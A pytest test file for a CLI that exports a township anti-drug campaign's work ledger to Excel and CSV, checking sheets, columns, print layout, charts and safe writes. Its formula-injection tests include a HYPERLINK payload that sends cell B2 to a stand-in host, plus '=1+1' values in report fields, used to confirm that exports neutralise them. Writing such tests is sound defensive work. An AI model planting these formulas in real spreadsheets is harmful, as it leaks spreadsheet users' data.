"""lanxi export: the 工作台账 as .xlsx (four sheets) or the obligations as .csv."""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
from zoneinfo import ZoneInfo

import pytest
from scenario import AS_OF, REPORTS, write_reports


@pytest.fixture
def ledger(cli, data_dir, tmp_path):
    from openpyxl import load_workbook

    write_reports(data_dir)
    out = tmp_path / "台账.xlsx"
    result = cli("export", "-o", str(out), "--data", str(data_dir), "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    return load_workbook(out)


def rows_of(sheet) -> list[dict]:
    """A sheet's rows under its header (row 2; row 1 is the sheet's title)."""
    values = list(sheet.iter_rows(values_only=True))
    return [dict(zip(values[1], row, strict=True)) for row in values[2:]]


def cli_json(cli, data_dir, *args):
    result = cli(*args, "--data", str(data_dir), "--as-of", AS_OF, "--format", "json")
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def test_workbook_sheets_title_rows_and_creator(ledger):
    assert ledger.sheetnames == ["任务", "义务", "报告", "佐证材料", "按单位", "考核", "完成情况图"]
    assert AS_OF in ledger.properties.title
    assert ledger.properties.creator == "lanxi"
    for sheet in ledger.worksheets[:-1]:  # the last holds the chart alone
        what = "各单位完成情况" if sheet.title == "按单位" else sheet.title
        assert sheet["A1"].value == f"兰溪镇专项行动工作台账 · {what}（截至{AS_OF}）"


def test_tasks_sheet_matches_tasks(ledger, cli, data_dir):
    tasks = cli_json(cli, data_dir, "tasks")
    rows = rows_of(ledger["任务"])
    assert [r["任务编号"] for r in rows] == [t["id"] for t in tasks]
    assert [r["牵头单位"] for r in rows] == [t["lead"] for t in tasks]
    assert [r["逾期单位"] or "" for r in rows] == ["、".join(t["overdue_units"]) for t in tasks]


def test_obligations_sheet_has_states_coloured(ledger, cli, data_dir):
    rows = rows_of(ledger["义务"])
    units = cli_json(cli, data_dir, "status")["units"]
    assert len(rows) == sum(u["total"] for u in units)
    sheet = ledger["义务"]
    state_col = list(next(sheet.iter_rows(min_row=2, max_row=2, values_only=True))).index("状态") + 1

    def cell(task, unit, period=None):
        index = next(i for i, r in enumerate(rows) if (r["任务编号"], r["单位"], r["周期"]) == (task, unit, period))
        return rows[index], sheet.cell(row=index + 3, column=state_col)

    fills = {}
    for task, unit, state in (("1.1", "苏家湖村", "已完成"), ("1.1", "黄湖村", "逾期完成"),
                              ("1.1", "北岸新村", "已逾期"), ("1.1", "千家洲村", "已逾期")):
        row, state_cell = cell(task, unit)
        assert row["状态"] == state
        fills[state] = state_cell.fill.fgColor.rgb
    assert len(set(fills.values())) == 3  # three states, three colours
    row, _ = cell("1.1", "苏家湖村")
    assert row["截止日期"].date().isoformat() == "2020-09-03"
    assert row["完成日期"].date().isoformat() == "2020-09-02"
    row, _ = cell("6.3", "中心校", "2020年8月")
    assert row["状态"] == "已完成"


def test_reports_sheet_lists_every_report_known_on_the_day(ledger):
    rows = rows_of(ledger["报告"])
    known = [r for r in REPORTS if r[2] <= AS_OF]  # 千家洲村's report of 09-20 is not known on 09-15
    assert len(rows) == len(known) == len(REPORTS) - 1
    assert sorted((r["任务编号"], r["单位"], r["日期"].date().isoformat()) for r in rows) == sorted(
        (task, unit, date) for task, unit, date, *_ in known
    )


def test_assessment_sheet_matches_assess(ledger, cli, data_dir):
    rows = rows_of(ledger["考核"])
    expected = cli_json(cli, data_dir, "assess")
    got = [(r["单位"], r["名次"], r["已逾期"]) for r in rows]
    assert got == [(e["unit"], e["rank"], e["overdue"]) for e in expected]
    assert [r["得分"] for r in rows] == pytest.approx([e["score"] for e in expected], abs=0.01)


def test_csv_gets_the_obligations(cli, data_dir, tmp_path):
    write_reports(data_dir)
    out = tmp_path / "义务.csv"
    result = cli("export", "-o", str(out), "--data", str(data_dir), "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # a BOM, so Excel reads the Chinese
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    units = cli_json(cli, data_dir, "status")["units"]
    assert len(rows) == sum(u["total"] for u in units)
    first = next(r for r in rows if r["任务编号"] == "1.1" and r["单位"] == "黄湖村")
    assert (first["截止日期"], first["状态"], first["完成日期"]) == ("2020-09-03", "逾期完成", "2020-09-10")


def test_export_needs_a_known_suffix(cli, data_dir, tmp_path):
    result = cli("export", "-o", str(tmp_path / "x.ods"), "--data", str(data_dir))
    assert result.exit_code == 2 and ".xlsx" in result.output
    assert not (tmp_path / "x.ods").exists()
    assert cli("export", "--data", str(data_dir)).exit_code == 2  # -o is required


def test_a_failed_write_leaves_the_old_file_whole(tmp_path):
    from lanxi_cli.errors import DataError
    from lanxi_cli.io import save

    out = tmp_path / "台账.xlsx"
    out.write_bytes(b"old ledger")

    def broken(handle):
        handle.write(b"half")
        raise OSError("disk full")

    with pytest.raises(DataError, match="台账.xlsx: 无法写入（disk full），原文件未改动"):
        save.write_replace(out, broken)
    assert out.read_bytes() == b"old ledger"
    assert [p.name for p in tmp_path.iterdir()] == ["台账.xlsx"]
    save.write_replace(out, lambda handle: handle.write(b"new"))
    assert out.read_bytes() == b"new"
    assert [p.name for p in tmp_path.iterdir()] == ["台账.xlsx"]


def test_start_up_stays_light():
    """The commands import openpyxl and python-docx only when they write a file."""
    import subprocess
    import sys

    from conftest import ROOT

    heavy = "('openpyxl', 'docx', 'rich', 'yaml', 'pydantic')"
    code = f"import lanxi_cli.cli, sys; print(sorted(m for m in {heavy} if m in sys.modules))"
    result = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True)
    assert result.stdout.strip() == "[]", result.stderr


def test_a_failed_write_is_a_clear_error(cli, tmp_path, monkeypatch):
    """A full disk while the ledger is written: exit 1, one sentence naming the file, nothing left."""
    import errno

    def full(*args):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    result = cli("export", "-o", str(tmp_path / "台账.xlsx"), "--data", "data", "--as-of", "2020-09-04")
    assert result.exit_code == 1
    assert "台账.xlsx: 无法写入（磁盘空间已满），原文件未改动" in result.stderr
    assert "Traceback" not in result.output
    assert list(tmp_path.iterdir()) == []


# ---- every field, every review, never a formula --------------------------------------------

HOSTILE = '=HYPERLINK("http://x/?a="&B2,"查看")'


@pytest.fixture
def reviewed(cli, data_dir, tmp_path_factory):
    """Reports with every field filled (one hostile, its evidence file's name too), one claim approved and one
    rejected."""
    common = ("--data", str(data_dir), "--as-of", AS_OF, "--no-commit")
    photo = tmp_path_factory.mktemp("photos") / "=1+1 墙报.jpg"
    photo.write_bytes(b"\xff\xd8\xff\xd9")

    def add(*args):
        result = cli("report", "add", *args, *common)
        assert result.exit_code == 0, result.output
        return result.stdout.strip()

    full = add("-t", "6.1", "-u", "苏家湖村", "-d", "2020-09-05", "-s", "进行中", "--rate", "0.6", "-n", "2",
               "--note", HOSTILE, "--by", "=1+1", "-e", str(photo), "-e", "https://example.org/m")
    approved = add("-t", "1.1", "-u", "苏家湖村", "-d", "2020-09-02", "-s", "完成")
    rejected = add("-t", "1.1", "-u", "黄湖村", "-d", "2020-09-02", "-s", "done")
    for path, verdict in ((approved, "--approve"), (rejected, "--reject")):
        result = cli("report", "review", path, verdict, "--by", "禁毒办", *common)
        assert result.exit_code == 0, result.output
    return data_dir, full, approved, rejected


def export_xlsx(cli, data_dir, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "台账.xlsx"
    result = cli("export", "-o", str(out), "--data", str(data_dir), "--as-of", AS_OF)
    assert result.exit_code == 0, result.output
    assert result.stdout == f"{out}\n"  # the path written
    return load_workbook(out)


def test_reports_sheet_has_every_report_field_and_its_review(cli, reviewed, tmp_path):
    from pathlib import Path

    data_dir, full, approved, rejected = reviewed
    rows = {r["报告编号"]: r for r in rows_of(export_xlsx(cli, data_dir, tmp_path)["报告"])}
    listed = {r["id"]: r for r in cli_json(cli, data_dir, "report", "list")}
    assert set(rows) == set(listed) == {Path(p).stem for p in (full, approved, rejected)}
    row, src = rows[Path(full).stem], listed[Path(full).stem]
    assert (row["任务编号"], row["单位"], row["状态"]) == ("6.1", "苏家湖村", "进行中")
    assert (row["数量"], row["比率"], row["分项"]) == (2, 0.6, None)
    assert row["周期"] is None and src["period"] is None  # 6.1 is a one-off task
    assert (row["说明"], row["报告人"]) == (HOSTILE, "=1+1")
    assert row["佐证"] == "https://example.org/m\n=1+1 墙报.jpg"  # links, then the files by name
    local = dt.datetime.fromisoformat(src["recorded"]).astimezone(ZoneInfo("Asia/Shanghai"))
    assert row["记录时间"] == local.strftime("%Y-%m-%d %H:%M")  # plan.yaml timezone, to the minute
    assert row["文件"] == src["file"]
    assert rows[Path(approved).stem]["审核结果"] == "已同意（已核验）"
    assert rows[Path(rejected).stem]["审核结果"] == "已退回"


def test_obligations_sheet_has_the_review_result_and_full_text(cli, reviewed, tmp_path):
    data_dir = reviewed[0]
    rows = rows_of(export_xlsx(cli, data_dir, tmp_path)["义务"])
    task_text = {t["id"]: t["text"] for t in cli_json(cli, data_dir, "tasks")}
    for row in rows:
        assert row["任务内容"] == task_text[row["任务编号"]]  # whole, never cut

    def one(task, unit):
        return next(r for r in rows if (r["任务编号"], r["单位"]) == (task, unit))

    assert (one("1.1", "苏家湖村")["状态"], one("1.1", "苏家湖村")["核验"]) == ("已完成", "已核验")
    assert (one("1.1", "黄湖村")["状态"], one("1.1", "黄湖村")["核验"]) == ("已逾期", "已退回")  # a rejected claim


def test_no_user_text_becomes_a_formula(cli, reviewed, tmp_path):
    """Every text cell is a string, so a note that starts with = stays text in Excel."""
    book = export_xlsx(cli, reviewed[0], tmp_path)
    texts = 0
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                texts += isinstance(cell.value, str)
    assert texts > 100
    cells = [c for row in book["报告"].iter_rows() for c in row if c.value in (HOSTILE, "=1+1")]
    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)


def test_csv_outputs_prefix_formula_starts(cli, reviewed, tmp_path):
    data_dir = reviewed[0]
    out = cli("report", "list", "--data", str(data_dir), "--as-of", AS_OF, "--format", "csv").stdout
    rows = list(csv.DictReader(out.splitlines()))
    hostile = next(r for r in rows if r["任务编号"] == "6.1")
    assert (hostile["说明"], hostile["报告人"]) == ("'" + HOSTILE, "'=1+1")
    from lanxi_cli.render.shapes import csv_cell

    assert [csv_cell(v) for v in ("=a", "+a", "-a", "@a", "\ta", "\ra", "a=", -1, 2.5)] == [
        "'=a", "'+a", "'-a", "'@a", "'\ta", "'\ra", "a=", "-1", "2.5"]


def test_a_native_chart_of_completion_by_unit(ledger, cli, data_dir):
    sheet = ledger["按单位"]
    rows = rows_of(sheet)
    status = {u["unit"]: u for u in cli_json(cli, data_dir, "status")["units"]}
    assert [r["单位"] for r in rows] == list(status)
    for r in rows:
        s = status[r["单位"]]
        counts = (r["按时完成"], r["逾期完成"], r["已逾期"], r["即将到期"], r["未到期"])
        assert counts == (s["done"], s["late"], s["overdue"], s["due_soon"], s["open"])
    [chart] = ledger["完成情况图"]._charts
    assert chart.tagname == "barChart" and chart.grouping == "stacked"
    refs = [s.val.numRef.f for s in chart.series]
    assert refs[0] == f"'按单位'!$D$3:$D${len(rows) + 2}" and len(refs) == 5
    assert {s.cat.strRef.f for s in chart.series} == {f"'按单位'!$A$3:$A${len(rows) + 2}"}  # named by unit


def test_every_unit_behind_is_in_the_ledger(ledger, cli, data_dir):
    behind = {u["unit"] for u in cli_json(cli, data_dir, "status")["units"] if u["overdue"]}
    assert len(behind) == 31
    obligations = rows_of(ledger["义务"])
    assert {r["单位"] for r in obligations if r["状态"] == "已逾期"} == behind
    scored = {r["单位"] for r in obligations if r["状态"] == "已逾期" and r["计入考核"] == "是"}
    # the assessment counts only what is scored
    assert {r["单位"] for r in rows_of(ledger["考核"]) if r["已逾期"]} == scored < behind


# ---- ready to print and to file ------------------------------------------------------------


def test_every_sheet_prints_on_a4_landscape_one_page_wide_with_header_and_footer(ledger):
    for sheet in ledger.worksheets:
        setup = sheet.page_setup
        assert str(setup.paperSize) == "9", sheet.title  # A4
        assert sheet.sheet_properties.pageSetUpPr.fitToPage and setup.fitToWidth == 1, sheet.title
        assert "&P" in sheet.oddFooter.center.text and "&N" in sheet.oddFooter.center.text, sheet.title
        assert sheet.oddFooter.right.text == "截至2020年9月15日", sheet.title
        if sheet.title == "完成情况图":  # the chart alone, on one page, tall enough to name every unit
            assert setup.fitToHeight == 1 and setup.orientation == "portrait"
            [chart] = sheet._charts
            assert chart.x_axis.tickLblSkip == 1
            continue
        assert setup.orientation == "landscape", sheet.title
        assert sheet.print_title_rows == "$2:$2", sheet.title  # the header row on every page
        heights = sheet.row_dimensions
        lines = sum(round((heights[r].height or 16) / 16) if r in heights else 1 for r in range(3, sheet.max_row + 1))
        assert setup.fitToHeight == (1 if lines <= 40 else 0), sheet.title  # one page only where it stays legible


def test_rates_are_numbers_shown_as_percentages(ledger):
    for name, columns in (("按单位", ("完成率", "按时完成率")), ("考核", ("完成率", "按时完成率"))):
        sheet = ledger[name]
        header = [c.value for c in sheet[2]]
        for column in columns:
            cells = [row[header.index(column)] for row in sheet.iter_rows(min_row=3)]
            rated = [c for c in cells if c.value is not None]
            assert rated, (name, column)
            assert all(c.number_format == "0.0%" and 0 <= c.value <= 1 for c in rated), (name, column)
    rows = {r["单位"]: r for r in rows_of(ledger["考核"])}
    assert rows["苏家湖村"]["完成率"] == rows["苏家湖村"]["按时完成率"] > 0  # both due items done on time
    assert rows["黄湖村"]["完成率"] > rows["黄湖村"]["按时完成率"]  # 1.1 late


def test_the_obligations_sheet_has_the_standard_ledger_columns(cli, reviewed, tmp_path):
    data_dir, full, approved, _rejected = reviewed
    plan = data_dir / "plan.yaml"
    plan.write_text(plan.read_text(encoding="utf-8").replace(
        "{name: 苏家湖村, kind: village, liaison: {name: '', phone: ''}}",
        "{name: 苏家湖村, kind: village, liaison: {name: 张三, leader: 李书记}}"), encoding="utf-8")
    sheet = export_xlsx(cli, data_dir, tmp_path)["义务"]
    header = [c.value for c in sheet[2]]
    for column in ("任务来源", "责任领导", "责任人", "进展情况", "佐证材料", "销号日期", "销号人"):
        assert column in header
    rows = rows_of(sheet)
    source = {r["任务来源"] for r in rows}
    assert source == {"《兰溪镇深入推进毒品预防教育宣传专项行动实施方案》"}  # the published notice bears no 文号
    mine = {r["任务编号"]: r for r in rows if r["单位"] == "苏家湖村"}
    closed = mine["1.1"]
    assert (closed["销号日期"].date(), closed["销号人"]) == (dt.date(2020, 9, 15), "禁毒办")  # the review's day
    assert closed["任务"] == "1.1 制定方案" and closed["进展情况"].startswith("2020-09-02 完成")
    assert mine["6.1"]["佐证材料"] == "https://example.org/m\n=1+1 墙报.jpg"  # links, then the files by name
    assert mine["6.1"]["销号日期"] is None and mine["6.1"]["进展情况"].startswith("2020-09-05 进行中")
    assert {r["责任人"] for r in rows if r["单位"] == "苏家湖村"} == {"张三"}
    assert {r["责任领导"] for r in rows if r["单位"] == "苏家湖村"} == {"李书记"}


def test_libreoffice_prints_the_tasks_and_assessment_sheets_one_page_wide(ledger, data_dir, tmp_path):
    """Printed through LibreOffice, each page of 任务 and of 考核 holds the whole header row, first
    column to last (nothing cut off to a page of its own), with the footer's page and day; and
    every task's text whole, its row as high as its wrapped lines (the streamed sheet is never
    laid out again by the reader: unset, a row shows one line and cuts the rest)."""
    import subprocess

    from debian import to_pdf

    from lanxi_cli.io import load

    path = tmp_path / "台账.xlsx"  # as `export` wrote it (the fixture only reads it)
    pdf, pages = to_pdf(path, tmp_path)
    read = "".join(subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True,
                                  check=True).stdout.split())  # cell by cell, a wrapped cell's lines together
    tasks = load.load_book(data_dir).tasks
    assert [t.id for t in tasks if "".join(t.text.split()) not in read] == []
    heights = {r: d.height for r, d in ledger["任务"].row_dimensions.items() if d.height}
    assert len(heights) >= len(tasks) // 2 and all(h <= 409 for h in heights.values())
    for first, last in (("类别", "已核验单位"), ("分组", "理由")):  # columns only these sheets have
        mine = [p for p in pages if first in p or last in p]
        assert mine, first
        for page in mine:
            assert first in page and last in page, (first, last)
    flat = ["".join(p.split()) for p in pages]
    assert all("截至2020年9月15日" in p and "共" in p for p in flat)
    assert any("%" in p for p in flat)
    chart = [p for p in flat if "各单位任务完成情况" in p]
    assert len(chart) == 1 and all(unit in chart[0] for unit in ("苏家湖村", "黄湖村", "罗湖村", "邮政"))


def test_the_task_source_carries_the_notices_number_where_plan_yaml_holds_one(cli, data_dir, tmp_path):
    plan = data_dir / "plan.yaml"
    text = plan.read_text(encoding="utf-8")
    plan.write_text(text.replace("issued: 2020-09-01\n", "notice_number: 兰政发〔2020〕12号\nissued: 2020-09-01\n"),
                    encoding="utf-8")
    assert cli("check", "--data", str(data_dir)).exit_code == 0
    book = export_xlsx(cli, data_dir, tmp_path)
    for name in ("任务", "义务"):
        assert {r["任务来源"] for r in rows_of(book[name])} == {
            "《兰溪镇深入推进毒品预防教育宣传专项行动实施方案》（兰政发〔2020〕12号）"}, name


def test_scores_print_as_the_bulletin_prints_them(ledger):
    """得分 keeps two decimals as a number and shows one, as the 通报's ranking (28.6)."""
    sheet = ledger["考核"]
    column = [c.value for c in sheet[2]].index("得分") + 1
    cells = [sheet.cell(row, column) for row in range(3, sheet.max_row + 1)]
    scored = [c for c in cells if c.value is not None]
    assert scored and all(c.number_format == "0.0" for c in scored)
    assert any(round(c.value, 1) != c.value for c in scored)  # a positive control: two decimals kept
